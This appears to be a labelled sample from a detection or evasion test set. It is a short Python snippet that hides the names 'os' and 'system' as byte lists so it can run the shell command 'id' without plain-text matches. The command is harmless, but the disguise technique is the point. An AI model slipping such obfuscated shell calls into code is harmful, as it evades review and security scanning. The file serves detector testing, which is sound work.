# evasion: names from bytes([...]).decode()
# grade: medium; does: shell
m = __import__(bytes([111, 115]).decode())
getattr(m, bytes([115, 121, 115, 116, 101, 109]).decode())("id")
